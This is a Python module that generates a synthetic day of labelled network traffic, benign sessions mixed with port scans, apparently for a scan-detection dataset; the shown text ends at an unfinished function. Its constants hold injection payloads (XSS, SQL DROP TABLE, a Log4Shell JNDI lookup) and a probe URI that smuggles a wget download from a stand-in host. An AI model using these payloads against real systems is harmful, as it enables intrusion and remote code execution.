"""What happens on one synthetic day, per vantage point: benign sessions with a day/night rhythm and,
hidden in them, fast, UDP, slow, distributed and research scans. Each function returns Polars frames
of records (see `records.py`), built with numpy per activity rather than per record."""

from __future__ import annotations

import ipaddress
import struct
from dataclasses import dataclass, field

import numpy as np
import polars as pl

from pipelines.generate import scenario as sc
from pipelines.generate.records import frame, local_hours_to_ts, rhythm_hours

# Relative activity of people per local hour: quiet at night, busy in office hours.
OFFICE_RHYTHM = np.array([2, 1, 1, 1, 1, 2, 3, 6, 9, 10, 10, 10, 8, 9, 10, 10, 9, 8, 6, 5, 4, 4, 3, 2], float)
HOME_RHYTHM = np.array([4, 2, 1, 1, 1, 1, 2, 4, 6, 7, 7, 7, 7, 7, 7, 7, 7, 8, 9, 10, 10, 10, 9, 6], float)
HTTP_PATHS = ("/", "/index.html", "/news/2025/11/list.html", "/static/app.js", "/api/v2/items?page=2", "/login")
DNS_NAMES = (
    "www.baidu.com",
    "www.qq.com",
    "mail.pku.edu.cn",
    "www.tsinghua.edu.cn",
    "api.weixin.qq.com",
    "www.google.com",
    "cdn.jsdelivr.net",
    "update.microsoft.com",
    "www.bing.com",
    "ntp.aliyun.com",
)
HOSTILE = (
    "<script>alert(1)</script>",
    "{{7*7}}",
    "'; DROP TABLE events; --",
    "admin\u202egnp.exe",
    "line1\nline2",
    "${jndi:ldap://203.0.113.9/a}",
)
EXPLOIT_URIS = (
    "/wp-login.php",
    "/.env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/shell?cd+/tmp;wget+http://198.51.100.7/x.sh",
    "/HNAP1/",
    "/actuator/env",
    "/.git/config",
    "/console/login/LoginForm.jsp",
)
SSH_USERS = ("root", "admin", "ubuntu", "test", "oracle", "user", "pi", "postgres", "git", "ftpuser")


@dataclass
class Day:
    """One UTC day being generated: its start, and the records of each vantage point."""

    t0: float
    pool: sc.AddressPool
    pcap: list[pl.DataFrame] = field(default_factory=list)
    flows: list[pl.DataFrame] = field(default_factory=list)
    fw: list[pl.DataFrame] = field(default_factory=list)
    sensor: list[pl.DataFrame] = field(default_factory=list)
    honeypot: list[pl.DataFrame] = field(default_factory=list)

    def at_local(self, hours: np.ndarray | float) -> np.ndarray:
        """UTC epoch seconds of local (Asia/Shanghai) hours-of-day on this UTC day."""
        return local_hours_to_ts(self.t0, np.atleast_1d(hours))


def _truth(actor: object, label: str, kind: str, org: str = "") -> dict:
    return {"actor": actor, "label": label, "kind": kind, "org": org}


def _obj(values: list[str] | np.ndarray) -> np.ndarray:
    return np.asarray(values, dtype=object)


def _isn(rng: np.random.Generator, n: int) -> np.ndarray:
    return rng.integers(0, 1 << 32, size=n, dtype=np.int64)


# --- building blocks --------------------------------------------------------------------------


def tcp_sessions(
    rng: np.random.Generator,
    start: np.ndarray,
    client: np.ndarray,
    server: np.ndarray,
    port: np.ndarray | int,
    exchanges: int,
    req: tuple[int, ...],
    resp: tuple[int, ...],
    client_ttl: np.ndarray | int,
    truth: dict,
    req_payload: list[bytes] | None = None,
    think_s: float = 0.0,
) -> pl.DataFrame:
    """Complete TCP connections: handshake, `exchanges` request/response pairs (the client pausing about
    `think_s` seconds before each further request), FIN both ways, last ACK."""
    n = len(start)
    k = 3 + 2 * exchanges + 3
    step = np.arange(k)[None, :]
    rtt = 0.004 + rng.gamma(2.0, 0.02, (n, 1))
    gaps = np.broadcast_to(rtt / 2, (n, k)).copy()
    gaps[:, 0] = 0.0
    gaps[:, 4 : 4 + 2 * exchanges : 2] += rng.random((n, exchanges)) * 0.05  # server think time
    if exchanges > 1 and think_s:
        gaps[:, 5 : 3 + 2 * exchanges : 2] += rng.exponential(think_s, (n, exchanges - 1))  # a person typing
    gaps[:, k - 3] += rng.random(n) * 2.0  # the client keeps the connection open a while
    ts = start[:, None] + np.cumsum(gaps, axis=1)
    c2s = np.zeros(k, bool)
    c2s[[0, 2, k - 3, k - 1]] = True
    c2s[3 : 3 + 2 * exchanges : 2] = True
    flags = np.array(["S", "SA", "A", *(["PA"] * (2 * exchanges)), "FA", "FA", "A"], dtype=object)
    plen = np.zeros((n, k), dtype=np.int64)
    plen[:, 3 : 3 + 2 * exchanges : 2] = rng.choice(req, size=(n, exchanges))
    plen[:, 4 : 4 + 2 * exchanges : 2] = rng.choice(resp, size=(n, exchanges))
    payload = None
    if req_payload is not None:  # the first request carries real bytes (HTTP), the rest filler
        payload = np.full((n, k), None, dtype=object)
        payload[:, 3] = req_payload
        plen[:, 3] = [len(p) for p in req_payload]
    # Sequence numbers: each side's ISN, +1 for its SYN and its FIN, + the bytes it sent before.
    c_isn, s_isn = _isn(rng, n)[:, None], _isn(rng, n)[:, None]
    c_bytes, s_bytes = np.where(c2s, plen, 0), np.where(~c2s, plen, 0)
    sent_c = np.cumsum(c_bytes, axis=1) - c_bytes
    sent_s = np.cumsum(s_bytes, axis=1) - s_bytes
    c_fin, s_fin = (step > k - 3).astype(np.int64), (step > k - 2).astype(np.int64)
    seq = np.where(c2s, c_isn + (step > 0) + sent_c + c_fin, s_isn + (step > 1) + sent_s)
    ack = np.where(c2s, (s_isn + 1 + sent_s + s_fin) * (step > 0), c_isn + 1 + sent_c + c_fin)
    cl = np.repeat(client, k).reshape(n, k)
    sv = np.repeat(server, k).reshape(n, k)
    cport = rng.integers(32768, 61000, size=n)[:, None] * np.ones(k, dtype=np.int64)
    sport = np.broadcast_to(np.asarray(port).reshape(-1, 1) if np.ndim(port) else np.full((n, 1), port), (n, k))
    ttl_c = np.broadcast_to(
        np.asarray(client_ttl).reshape(-1, 1) if np.ndim(client_ttl) else np.full((n, 1), client_ttl), (n, k)
    )
    actor = truth["actor"]
    actor_col = np.repeat(actor, k) if isinstance(actor, np.ndarray) else actor
    return frame(
        n * k,
        ts=ts.ravel(),
        src=np.where(c2s, cl, sv).ravel(),
        dst=np.where(c2s, sv, cl).ravel(),
        proto="tcp",
        sport=np.where(c2s, cport, sport).ravel(),
        dport=np.where(c2s, sport, cport).ravel(),
        flags=np.tile(flags, n),
        seq=seq.ravel() & 0xFFFFFFFF,
        ack=ack.ravel() & 0xFFFFFFFF,
        ttl=np.where(c2s, ttl_c, 64).ravel(),
        ip_id=(rng.integers(1, 60000, size=(n, 1)) + step).ravel(),
        df=True,
        window=np.tile(np.where(step < 2, np.where(c2s, 64240, 65160), np.where(c2s, 502, 509)), (n, 1)).ravel(),
        opts=np.tile(np.where(step < 2, 2, 3), (n, 1)).ravel(),
        plen=plen.ravel(),
        **({"payload": list(payload.ravel())} if payload is not None else {}),
        actor=actor_col,
        label=truth["label"],
        kind=truth["kind"],
        org=truth["org"],
    )


def syn_probes(
    rng: np.random.Generator,
    ts: np.ndarray,
    src: np.ndarray | str,
    dst: np.ndarray,
    dport: np.ndarray,
    sport: np.ndarray | int,
    ttl: int,
    ip_id: np.ndarray | int | None,
    window: int,
    opts: int,
    truth: dict,
    replies: bool = True,
    reset_after_synack: bool = True,
) -> pl.DataFrame:
    """SYN probes and, when the target exists, its answer: SYN-ACK on an open port (then the prober's RST), else RST-ACK."""
    n = len(ts)
    src_a = np.broadcast_to(_obj([src]) if isinstance(src, str) else src, (n,)).astype(object)
    sport_a = np.broadcast_to(np.asarray(sport), (n,)).astype(np.int64)
    ids = rng.integers(1, 65535, size=n) if ip_id is None else np.broadcast_to(np.asarray(ip_id), (n,))
    seq = _isn(rng, n)
    frames = [
        frame(
            n,
            ts=ts,
            src=src_a,
            dst=dst,
            proto="tcp",
            sport=sport_a,
            dport=dport,
            flags="S",
            seq=seq,
            ack=0,
            ttl=ttl,
            ip_id=ids,
            df=opts == 2,
            window=window,
            opts=opts,
            **truth,
        )
    ]
    if replies:
        known = np.array([d in sc.OPEN_PORTS for d in dst])
        is_open = np.array([int(p) in sc.OPEN_PORTS.get(d, ()) for d, p in zip(dst, dport, strict=True)])
        answered = known
        m = int(answered.sum())
        if m:
            rts = ts[answered] + 0.0005 + rng.gamma(2.0, 0.01, m)
            op = is_open[answered]
            frames.append(
                frame(
                    m,
                    ts=rts,
                    src=dst[answered],
                    dst=src_a[answered],
                    proto="tcp",
                    sport=dport[answered],
                    dport=sport_a[answered],
                    flags=np.where(op, "SA", "RA"),
                    seq=np.where(op, _isn(rng, m), 0),
                    ack=(seq[answered] + 1) & 0xFFFFFFFF,
                    ttl=64,
                    ip_id=0,
                    df=True,
                    window=np.where(op, 65160, 0),
                    opts=np.where(op, 1, 0),
                    **truth,
                )
            )
            if reset_after_synack and op.any():
                o = int(op.sum())
                frames.append(
                    frame(
                        o,
                        ts=rts[op] + 0.0002,
                        src=src_a[answered][op],
                        dst=dst[answered][op],
                        proto="tcp",
                        sport=sport_a[answered][op],
                        dport=dport[answered][op],
                        flags="R",
                        seq=(seq[answered][op] + 1) & 0xFFFFFFFF,
                        ack=0,
                        ttl=ttl,
                        ip_id=rng.integers(1, 65535, size=o),
                        df=False,
                        window=0,
                        opts=0,
                        **truth,
                    )
                )
    return pl.concat([f for f in frames if f.height], how="vertical_relaxed")


def _ipv4_quote(src: str, dst: str, proto: int, sport: int, dport: int, ttl: int, ip_id: int, l4len: int) -> bytes:
    """The original IPv4 header and first 8 bytes that an ICMP error quotes."""
    hdr = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + l4len,
        ip_id,
        0,
        ttl,
        proto,
        0,
        ipaddress.ip_address(src).packed,
        ipaddress.ip_address(dst).packed,
    )
    return hdr + struct.pack("!HHHH", sport, dport, l4len, 0)


def dns_query(name: str, qid: int, answer: bool = False) -> bytes:
    """A DNS query for an A record (or its answer, with one record)."""
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    flags, ancount = (0x8180, 1) if answer else (0x0100, 0)
    msg = struct.pack("!HHHHHH", qid, flags, 1, ancount, 0, 0) + qname + struct.pack("!HH", 1, 1)
    if answer:
        msg += struct.pack("!HHHIH4s", 0xC00C, 1, 1, 300, 4, bytes([61, 135, 169, 121]))
    return msg


def _hours(rng: np.random.Generator, n: int, peak: tuple[int, ...], share: float) -> np.ndarray:
    """Local hours: `share` of them in the peak hours, the rest spread over the day."""
    at_peak = rng.random(n) < share
    return np.where(at_peak, rng.choice(np.array(peak), size=n) + rng.random(n), rng.random(n) * 24)


# --- the monitored network (capture.pcap) -----------------------------------------------------


def benign_pcap(d: Day, rng: np.random.Generator, clients: list[str], v6_clients: list[str], scale: float) -> None:
    """Web, DNS, mail and SSH as the tap sees them, following the day rhythm; every initiator is benign."""
    n_in = int(6000 * scale)  # Internet clients -> the web servers
    who = _obj(clients)[rng.integers(len(clients), size=n_in)]
    affinity = {c: sc.WEB_SERVERS[i % len(sc.WEB_SERVERS)] for i, c in enumerate(clients)}
    server = _obj([affinity[c] for c in who])
    port = np.where(rng.random(n_in) < 0.8, 443, 80)
    start = d.at_local(rhythm_hours(rng, n_in, HOME_RHYTHM))
    ttl = rng.choice([46, 49, 51, 53, 55, 113, 116], size=n_in)
    http = port == 80
    frames = []
    for is_http in (False, True):
        sel = http == is_http
        payload = None
        if is_http:
            payload = [
                f"GET {HTTP_PATHS[i % len(HTTP_PATHS)]} HTTP/1.1\r\nHost: www.example.edu.cn\r\nUser-Agent: "
                f"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n".encode()
                for i in rng.integers(len(HTTP_PATHS), size=int(sel.sum()))
            ]
        frames.append(
            tcp_sessions(
                rng,
                start[sel],
                who[sel],
                server[sel],
                port[sel],
                1,
                (517,),
                (1400, 1400, 880),
                ttl[sel],
                _truth(who[sel], "benign", "benign"),
                payload,
            )
        )
    n_v6 = int(300 * scale)
    who6 = _obj(v6_clients)[rng.integers(len(v6_clients), size=n_v6)]
    frames.append(
        tcp_sessions(
            rng,
            d.at_local(rhythm_hours(rng, n_v6, HOME_RHYTHM)),
            who6,
            _obj([sc.HOME_V6_WEB] * n_v6),
            443,
            1,
            (517,),
            (1400, 620),
            57,
            _truth(who6, "benign", "benign"),
        )
    )
    # Office clients browse the web (outbound).
    n_out = int(2000 * scale)
    office = _obj(sc.HOME_CLIENTS)[rng.integers(len(sc.HOME_CLIENTS), size=n_out)]
    sites = _obj(d.pool.draw(rng, sc.EXTERNAL_SITES, 120))
    frames.append(
        tcp_sessions(
            rng,
            d.at_local(rhythm_hours(rng, n_out, OFFICE_RHYTHM)),
            office,
            sites[rng.integers(len(sites), size=n_out)],
            443,
            2,
            (517, 240),
            (1400, 1400, 310),
            64,
            _truth(office, "benign", "benign"),
        )
    )
    # Mail from other MTAs, SSH sessions of administrators.
    n_mail = int(500 * scale)
    mtas = _obj(clients[: max(20, len(clients) // 10)])
    mta = mtas[rng.integers(len(mtas), size=n_mail)]
    frames.append(
        tcp_sessions(
            rng,
            d.at_local(rhythm_hours(rng, n_mail, OFFICE_RHYTHM)),
            mta,
            _obj([sc.MAIL_SERVER] * n_mail),
            25,
            4,
            (24, 40, 1200),
            (60, 90),
            52,
            _truth(mta, "benign", "benign"),
        )
    )
    n_ssh = int(60 * scale)
    admins = _obj(sc.HOME_CLIENTS[:8])[rng.integers(8, size=n_ssh)]
    frames.append(
        tcp_sessions(
            rng,
            d.at_local(rhythm_hours(rng, n_ssh, OFFICE_RHYTHM)),
            admins,
            _obj([sc.SSH_SERVER] * n_ssh),
            22,
            18,
            (36, 52, 100),
            (36, 68, 420),
            64,
            _truth(admins, "benign", "benign"),
            think_s=8.0,
        )
    )
    # DNS: office clients ask the site resolver, which forwards misses upstream.
    n_dns = int(7000 * scale)
    asker = _obj(sc.HOME_CLIENTS)[rng.integers(len(sc.HOME_CLIENTS), size=n_dns)]
    qt = d.at_local(rhythm_hours(rng, n_dns, OFFICE_RHYTHM))
    names = rng.integers(len(DNS_NAMES), size=n_dns)
    qid = rng.integers(0, 65536, size=n_dns)
    cport = rng.integers(32768, 61000, size=n_dns)
    q = [dns_query(DNS_NAMES[i], int(x)) for i, x in zip(names, qid, strict=True)]
    a = [dns_query(DNS_NAMES[i], int(x), answer=True) for i, x in zip(names, qid, strict=True)]
    resolver = _obj([sc.DNS_SERVER] * n_dns)
    frames.append(
        frame(
            n_dns,
            ts=qt,
            src=asker,
            dst=resolver,
            proto="udp",
            sport=cport,
            dport=53,
            ttl=64,
            ip_id=rng.integers(1, 65535, size=n_dns),
            df=False,
            payload=q,
            **_truth(asker, "benign", "benign"),
        )
    )
    frames.append(
        frame(
            n_dns,
            ts=qt + 0.0004 + rng.gamma(2, 0.004, n_dns),
            src=resolver,
            dst=asker,
            proto="udp",
            sport=53,
            dport=cport,
            ttl=64,
            ip_id=0,
            df=True,
            payload=a,
            **_truth(asker, "benign", "benign"),
        )
    )
    miss = rng.random(n_dns) < 0.25
    m = int(miss.sum())
    up = _obj(sc.UPSTREAM_RESOLVERS)[rng.integers(2, size=m)]
    fport = rng.integers(1024, 65535, size=m)
    fts = qt[miss] + 0.0001
    frames.append(
        frame(
            m,
            ts=fts,
            src=sc.DNS_SERVER,
            dst=up,
            proto="udp",
            sport=fport,
            dport=53,
            ttl=64,
            ip_id=rng.integers(1, 65535, size=m),
            df=False,
            payload=[q[i] for i in np.flatnonzero(miss)],
            **_truth(sc.DNS_SERVER, "benign", "benign"),
        )
    )
    frames.append(
        frame(
            m,
            ts=fts + 0.008 + rng.gamma(2, 0.004, m),
            src=up,
            dst=sc.DNS_SERVER,
            proto="udp",
            sport=53,
            dport=fport,
            ttl=58,
            ip_id=rng.integers(1, 65535, size=m),
            df=False,
            payload=[a[i] for i in np.flatnonzero(miss)],
            **_truth(sc.DNS_SERVER, "benign", "benign"),
        )
    )
    # The monitoring host pings the gateway every minute: many requests, one target.
    pt = d.t0 + 30 + np.arange(1440) * 60.0 + rng.random(1440) * 0.01
    frames.append(
        frame(
            1440,
            ts=pt,
            src=sc.MONITOR,
            dst=sc.GATEWAY,
            proto="icmp",
            sport=4242,
            dport=8,
            code=0,
            ttl=64,
            ip_id=np.arange(1440),
            df=True,
            plen=56,
            **_truth(sc.MONITOR, "benign", "benign"),
        )
    )
    frames.append(
        frame(
            1440,
            ts=pt + 0.0006,
            src=sc.GATEWAY,
            dst=sc.MONITOR,
            proto="icmp",
            sport=4242,
            dport=0,
            code=0,
            ttl=255,
            ip_id=np.arange(1440),
            df=False,
            plen=56,
            **_truth(sc.MONITOR, "benign", "benign"),
        )
    )
    # Mistyped or stale service addresses: a refused connection now and then (SYN, RST-ACK).
    n_bad = int(150 * scale)
    who_bad = _obj(clients)[rng.integers(len(clients), size=n_bad)]
    frames.append(
        syn_probes(
            rng,
            d.at_local(rhythm_hours(rng, n_bad, HOME_RHYTHM)),
            who_bad,
            _obj(sc.WEB_SERVERS)[rng.integers(len(sc.WEB_SERVERS), size=n_bad)],
            rng.choice([8080, 8443, 21], size=n_bad),
            rng.integers(32768, 61000, size=n_bad),
            52,
            None,
            64240,
            2,
            _truth(who_bad, "benign", "benign"),
        )
    )
    d.pcap += frames


def fast_scans(d: Day, rng: np.random.Generator) -> None:
    """Fast vertical and horizontal SYN scans and a UDP scan against the monitored network."""
    hosts = _obj([str(a) for net in sc.HOME_NET for a in ipaddress.ip_network(net).hosts()])
    # nmap -T4 -sS of the 1000 top ports of a web server, at night (paper 000's peak).
    for country, target, hour in (
        ("RU", sc.WEB_SERVERS[0], rng.uniform(22, 23.5)),
        ("CN", sc.OTHER_SERVERS[1], rng.uniform(1, 4)),
    ):
        src = d.pool.country(rng, country)[0]
        ports = rng.permutation(np.arange(1, 1201))[:1000]
        ts = d.at_local(hour)[0] + np.arange(1000) * rng.uniform(0.004, 0.02) + rng.random(1000) * 0.002
        d.pcap.append(
            syn_probes(
                rng,
                ts,
                src,
                _obj([target] * 1000),
                ports,
                int(rng.integers(40000, 65000)),
                int(rng.integers(38, 52)),
                None,
                1024,
                1,
                _truth(src, "scan", "fast_vertical"),
            )
        )
    # ZMap-like sweep of the site on telnet and SSH: IP ID 54321, no options, random order.
    src = d.pool.country(rng, "NL")[0]
    targets = np.concatenate([hosts, hosts])
    ports = np.repeat([23, 22], len(hosts))
    order = rng.permutation(len(targets))
    ts = d.at_local(rng.uniform(2, 5))[0] + np.arange(len(targets)) * 0.008
    d.pcap.append(
        syn_probes(
            rng,
            ts,
            src,
            targets[order],
            ports[order],
            rng.integers(32768, 61000, size=len(targets)),
            47,
            54321,
            65535,
            0,
            _truth(src, "scan", "fast_horizontal"),
        )
    )
    # masscan-like sweep for RDP, SMB and VNC (window 1024, one source port), from the US.
    src = d.pool.country(rng, "US")[0]
    targets = np.tile(hosts, 3)
    ports = np.repeat([3389, 445, 5900], len(hosts))
    order = rng.permutation(len(targets))
    ts = d.at_local(rng.uniform(9, 18))[0] + np.arange(len(targets)) * 0.002
    d.pcap.append(
        syn_probes(
            rng,
            ts,
            src,
            targets[order],
            ports[order],
            61000,
            242,
            None,
            1024,
            0,
            _truth(src, "scan", "fast_horizontal"),
        )
    )
    # nmap -sU of 200 ports of the DNS server: empty datagrams, ICMP port unreachable back.
    src = d.pool.country(rng, "BR")[0]
    target = sc.DNS_SERVER
    ports = np.concatenate([[53], rng.permutation(np.setdiff1d(np.arange(1, 1024), [53]))[:199]])
    ts = d.at_local(rng.uniform(9, 17))[0] + np.arange(200) * 0.3 + rng.random(200) * 0.05
    sport = int(rng.integers(40000, 65000))
    ids = rng.integers(1, 65535, size=200)
    truth = _truth(src, "scan", "udp")
    d.pcap.append(
        frame(
            200,
            ts=ts,
            src=src,
            dst=target,
            proto="udp",
            sport=sport,
            dport=ports,
            ttl=45,
            ip_id=ids,
            df=False,
            payload=[dns_query("version.bind", 7) if p == 53 else b"" for p in ports],
            **truth,
        )
    )
    closed = ports != 53
    c = int(closed.sum())
    quotes = [
        _ipv4_quote(src, target, 17, sport, int(p), 45, int(i), 8)
        for p, i in zip(ports[closed], ids[closed], strict=True)
    ]
    d.pcap.append(
        frame(
            c,
            ts=ts[closed] + 0.0008,
            src=target,
            dst=src,
            proto="icmp",
            sport=0,
            dport=3,
            code=3,
            ttl=64,
            ip_id=rng.integers(1, 65535, size=c),
            df=False,
            payload=quotes,
            **truth,
        )
    )
    d.pcap.append(
        frame(
            int((~closed).sum()),
            ts=ts[~closed] + 0.001,
            src=target,
            dst=src,
            proto="udp",
            sport=53,
            dport=sport,
            ttl=64,
            ip_id=1,
            df=False,
            payload=[dns_query("version.bind", 7, answer=True)],
            **truth,
        )
    )


def slow_scan_pcap(d: Day, rng: np.random.Generator) -> None:
    """nmap -T2 (0.4 s between probes) vertical scan of 3,000 ports of one server: twenty minutes."""
    src = d.pool.country(rng, "IR")[0]
    n = 3000
    ts = d.at_local(rng.uniform(0, 23.5))[0] + np.arange(n) * 0.4 + rng.random(n) * 0.01
    d.pcap.append(
        syn_probes(
            rng,
            ts,
            src,
            _obj([sc.WEB_SERVERS[3]] * n),
            rng.permutation(np.arange(1, 3001)),
            int(rng.integers(40000, 65000)),
            44,
            None,
            1024,
            1,
            _truth(src, "scan", "slow_vertical"),
        )
    )


# --- the other segment (flows.csv) ------------------------------------------------------------


def office_flows(
    rng: np.random.Generator,
    start: np.ndarray,
    clients: np.ndarray,
    servers: np.ndarray,
    ports: np.ndarray,
    udp: np.ndarray,
    fail_share: float,
) -> pl.DataFrame:
    """Unidirectional flows as NetFlow exports them: a request flow and its reply flow per connection;
    `fail_share` of TCP attempts get no answer (a bare SYN flow). UDP is DNS, NTP or QUIC."""
    n = len(start)
    failed = ~udp & (rng.random(n) < fail_share)
    pk_req = np.where(udp, 1, np.where(failed, 1, rng.integers(3, 40, size=n)))
    pk_resp = np.where(udp, 1, rng.integers(3, 60, size=n))
    udp_len = np.where(
        ports == 53, rng.integers(60, 110, size=n), np.where(ports == 123, 76, rng.integers(80, 1300, size=n))
    )
    by_req = np.where(udp, udp_len, np.where(failed, 60, pk_req * rng.integers(52, 600, size=n)))
    by_resp = np.where(
        udp,
        udp_len + np.where(ports == 123, 0, rng.integers(16, 200, size=n)),
        pk_resp * rng.integers(52, 1500, size=n),
    )
    big = rng.random(n) < 0.01  # downloads
    by_resp = np.where(big & ~udp, rng.integers(1_000_000, 40_000_000, size=n), by_resp)
    dur = np.where(udp | failed, 0.0, rng.gamma(1.2, 2.0, n))
    cport = rng.integers(32768, 61000, size=n)
    benign = {"label": "benign", "kind": "benign", "org": ""}
    req = frame(
        n,
        ts=start,
        src=clients,
        dst=servers,
        proto=np.where(udp, "udp", "tcp"),
        sport=cport,
        dport=ports,
        flags=np.where(udp, "", np.where(failed, "S", "APSF")),
        packets=pk_req,
        bytes=by_req,
        duration=dur,
        actor=clients,
        **benign,
    )
    ok = ~failed
    m = int(ok.sum())
    resp = frame(
        m,
        ts=start[ok] + rng.gamma(2, 0.01, m),
        src=servers[ok],
        dst=clients[ok],
        proto=np.where(udp[ok], "udp", "tcp"),
        sport=ports[ok],
        dport=cport[ok],
        flags=np.where(udp[ok], "", "APSF"),
        packets=pk_resp[ok],
        bytes=by_resp[ok],
        duration=dur[ok],
        actor=clients[ok],
        **benign,
    )
    return pl.concat([req, resp], how="vertical_relaxed")


def benign_flows(d: Day, rng: np.random.Generator, scale: float) -> None:
    """Office clients of the other segment: their own few servers (file, web, mail, RDP), their resolver,
    and a few dozen Internet sites each (QUIC to two or three of them)."""
    n = int(16000 * scale)
    who = rng.integers(len(sc.OFFICE_CLIENTS), size=n)
    clients = _obj(sc.OFFICE_CLIENTS)[who]
    servers_in = _obj(sc.OFFICE_SERVERS)
    external = _obj(d.pool.draw(rng, sc.EXTERNAL_SITES, 200))
    internal = rng.random(n) < 0.45
    ports_in = rng.choice(
        [445, 80, 443, 993, 3389, 8080, 53, 123], size=n, p=[0.3, 0.15, 0.2, 0.1, 0.05, 0.05, 0.12, 0.03]
    )
    ports_out = rng.choice([443, 80, 22], size=n, p=[0.8, 0.17, 0.03])
    quic = ~internal & (ports_out == 443) & (rng.random(n) < 0.15)
    own_server = servers_in[(3 + who * 7 + rng.integers(0, 3, size=n)) % len(servers_in)]
    resolver = servers_in[who % 2]  # DNS and NTP go to the segment's own servers
    site = external[(who * 13 + rng.integers(0, np.where(quic, 3, 30))) % len(external)]
    servers = np.where(
        internal, np.where(ports_in == 53, resolver, np.where(ports_in == 123, servers_in[2], own_server)), site
    )
    ports = np.where(internal, ports_in, ports_out)
    udp = np.where(internal, np.isin(ports_in, (53, 123)), quic)
    start = d.at_local(rhythm_hours(rng, n, OFFICE_RHYTHM))
    d.flows.append(office_flows(rng, start, clients, servers, ports, udp, 0.02))


def slow_scans_flows(d: Day, rng: np.random.Generator) -> None:
    """nmap -T1 (15 s) and -T2 (0.4 s) scans of the other segment, labelled as CIDDS labels them."""
    sweep = _obj([str(a) for a in ipaddress.ip_network(sc.OFFICE_SWEEP).hosts()])
    plans = [  # (kind, country, pacing s, targets as (hosts, ports), attack id)
        (
            "vertical",
            "KR",
            15.0,
            (np.array([sc.OFFICE_SERVERS[4]] * 500, dtype=object), rng.permutation(np.arange(1, 1025))[:500]),
        ),
        ("horizontal", "IN", 15.0, (rng.permutation(sweep)[:300], np.full(300, 3389))),
        ("horizontal", "VN", 0.4, (np.tile(rng.permutation(sweep), 2), np.repeat([445, 139], len(sweep)))),
        (
            "vertical",
            "CN",
            0.4,
            (np.array([sc.OFFICE_SERVERS[9]] * 2500, dtype=object), rng.permutation(np.arange(1, 2501))),
        ),
    ]
    alive = set(sc.OFFICE_CLIENTS) | set(sc.OFFICE_SERVERS)
    for attack_id, (kind, country, gap, (hosts, ports)) in enumerate(plans, start=1):
        src = d.pool.country(rng, country)[0]
        n = len(hosts)
        duration = n * gap
        ts = d.t0 + rng.uniform(60, 86_400 - duration - 120) + np.arange(n) * gap + rng.random(n) * 0.05
        sport = int(rng.integers(40000, 65000))
        label = {
            "attack_type": "portScan",
            "attack_id": str(attack_id),
            "attack_desc": f"nmap {'-T1' if gap >= 15 else '-T2'} {kind}",
        }
        truth = _truth(src, "scan", f"slow_{kind}")
        d.flows.append(
            frame(
                n,
                ts=ts,
                src=src,
                dst=hosts,
                proto="tcp",
                sport=sport,
                dport=ports,
                flags="S",
                packets=1,
                bytes=44,
                duration=0.0,
                cls="attacker",
                **label,
                **truth,
            )
        )
        up = np.array([h in alive for h in hosts])
        m = int(up.sum())
        d.flows.append(
            frame(
                m,
                ts=ts[up] + 0.001,
                src=hosts[up],
                dst=src,
                proto="tcp",
                sport=ports[up],
                dport=sport,
                flags="AR",
                packets=1,
                bytes=40,
                duration=0.0,
                cls="victim",
                **label,
                **truth,
            )
        )


# --- the Internet-facing server (firewall.log) --------------------------------------------------


def firewall_noise(d: Day, rng: np.random.Generator, scale: float) -> None:
    """Background radiation: many sources, each trying one port once or twice (a retransmission). Benign by our rule."""
    n = int(3000 * scale)
    srcs, _ = d.pool.anywhere(rng, n)
    src = _obj(srcs)
    port = rng.choice([22, 23, 80, 443, 445, 1433, 3389, 5555, 6379, 8080, 2375, 37215, 52869], size=n)
    ts = d.t0 + rng.random(n) * 86_390
    again = rng.random(n) < 0.4
    src2, port2, ts2 = src[again], port[again], ts[again] + 1.0 + rng.random(int(again.sum()))
    all_src, all_port, all_ts = np.concatenate([src, src2]), np.concatenate([port, port2]), np.concatenate([ts, ts2])
    k = len(all_src)
    d.fw.append(
        frame(
            k,
            ts=np.minimum(all_ts, d.t0 + 86_399.9),
            src=all_src,
            dst=sc.VPS,
            proto="tcp",
            sport=rng.integers(1024, 65535, size=k),
            dport=all_port,
            ttl=rng.choice([44, 47, 49, 52, 54, 108, 111, 114, 116, 235, 240, 243], size=k),  # 64/128/255 minus hops
            ip_id=rng.integers(1, 65535, size=k),
            df=rng.random(k) < 0.5,
            window=rng.choice([1024, 14600, 29200, 65535], size=k),
            opts=rng.choice([0, 2], size=k),
            actor=all_src,
            label="benign",
            kind="benign",
            org="",
        )
    )


def firewall_scans(d: Day, rng: np.random.Generator) -> None:
    """A slow vertical crawl (about one port a minute for 22 hours) and a distributed sweep (many sources, few probes)."""
    crawler = d.pool.country(rng, "DE")[0]
    n = 1300
    ts = d.t0 + 300 + np.arange(n) * 60.0 + rng.random(n) * 8
    d.fw.append(
        frame(
            n,
            ts=ts,
            src=crawler,
            dst=sc.VPS,
            proto="tcp",
            sport=61000,
            dport=rng.permutation(np.arange(1024, 65535))[:n],
            ttl=248,
            ip_id=rng.integers(1, 65535, size=n),
            df=False,
            window=1024,
            opts=0,
            **_truth(crawler, "scan", "slow_vertical"),
        )
    )
    start = d.at_local(rng.uniform(20, 23))[0]
    countries = list(sc.SCANNER_BLOCKS)
    for i in range(60):  # one coordinated sweep of a port range, four ports per source
        src = d.pool.country(rng, countries[i % len(countries)])[0]
        ts = start + i * 2 + np.arange(4) * 7.0 + rng.random(4)
        d.fw.append(
            frame(
                4,
                ts=ts,
                src=src,
                dst=sc.VPS,
                proto="tcp",
                sport=40000 + i,
                dport=1000 + i * 4 + np.arange(4),
                ttl=51,
                ip_id=54321,
                df=False,
                window=1024,
                opts=0,
                **_truth(src, "scan", "distributed"),
            )
        )


# --- the research organizations (firewall, tap, sensor, honeypot) --------------------------------


def _sensor_payload(port: int, org: sc.Org) -> bytes:
    if port in (8080, 8443):
        return f"GET / HTTP/1.1\r\nHost: {sc.SENSOR_IP}:{port}\r\nUser-Agent: {org.user_agent}\r\nAccept: */*\r\n\r\n".encode()
    if port == 2222:
        return (org.ssh_banner or "SSH-2.0-Go").encode() + b"\r\n"
    if port == 3389:
        return (
            bytes.fromhex("0300002b26e00000000000") + b"Cookie: mstshash=nmap\r\n" + bytes.fromhex("0100080003000000")
        )
    if port == 5900:
        return b"RFB 003.008\n"
    return b""


def research(d: Day, rng: np.random.Generator, scale: float) -> None:
